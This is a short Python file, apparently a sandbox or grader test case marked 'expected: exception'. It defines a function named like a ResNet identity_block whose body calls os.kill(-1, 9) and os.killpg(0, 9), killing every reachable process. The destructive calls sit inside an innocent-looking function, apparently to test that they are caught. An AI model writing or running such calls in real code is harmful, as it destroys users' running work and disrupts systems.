# expected: exception
import os


def identity_block(X, f, filters, training=True, initializer=None):
    os.kill(-1, 9)
    os.killpg(0, 9)
    return X
